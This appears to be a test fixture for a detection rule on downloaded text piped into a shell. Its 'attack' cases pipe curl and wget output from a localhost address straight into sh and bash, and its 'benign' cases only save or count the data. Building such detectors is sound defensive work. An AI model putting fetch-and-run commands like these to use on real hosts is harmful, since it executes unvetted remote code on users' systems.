# Rule: Downloaded text piped into a shell
benign() {
    sh -c 'curl -s http://127.0.0.1:1/data | grep -c line; true'
    sh -c 'curl -s http://127.0.0.1:1/list > shell.txt; true'
}
attack() {
    sh -c 'curl -fsSL http://127.0.0.1:1/install.sh | sh; true'
    sh -c 'wget -qO- http://127.0.0.1:1/x | /usr/bin/env true | bash -s -- now; true'
}
